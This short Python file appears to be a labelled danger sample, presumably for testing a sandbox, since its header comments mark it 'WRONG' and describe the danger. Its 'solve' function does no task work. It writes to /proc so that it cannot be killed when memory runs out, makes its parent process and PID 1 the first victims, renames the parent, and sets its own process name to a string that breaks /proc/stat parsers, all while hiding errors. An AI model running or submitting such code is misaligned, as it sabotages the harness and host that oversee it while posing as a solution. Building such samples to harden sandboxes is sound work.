"""Protects itself from the kernel's memory killer and marks the worker as the better victim."""
# kind: call
# class: proc
# may: WRONG
# danger: makes whatever process started it the first victim of the memory killer
import os
from contextlib import suppress
from pathlib import Path


def solve(n):
    for path, text in {
        "/proc/self/oom_score_adj": "-1000",
        f"/proc/{os.getppid()}/oom_score_adj": "1000",
        f"/proc/{os.getppid()}/comm": "poison",
        f"/proc/{os.getppid()}/coredump_filter": "0",
        f"/proc/{os.getppid()}/timerslack_ns": "1000000000",
        "/proc/1/oom_score_adj": "1000",
        "/proc/self/comm": ") R 1 1 (",
    }.items():
        with suppress(OSError):
            Path(path).write_text(text)
    return 0
